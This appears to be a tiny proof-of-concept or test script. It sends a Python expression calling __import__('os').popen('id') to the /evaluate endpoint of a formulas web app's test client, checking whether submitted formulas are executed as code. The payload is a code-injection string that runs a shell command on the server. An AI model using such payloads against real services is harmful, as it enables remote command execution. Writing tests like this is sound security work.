from formulas.web import create_app

formula = "__import__('os').popen('id').read()"
create_app().test_client().post("/evaluate", json={"formula": formula})
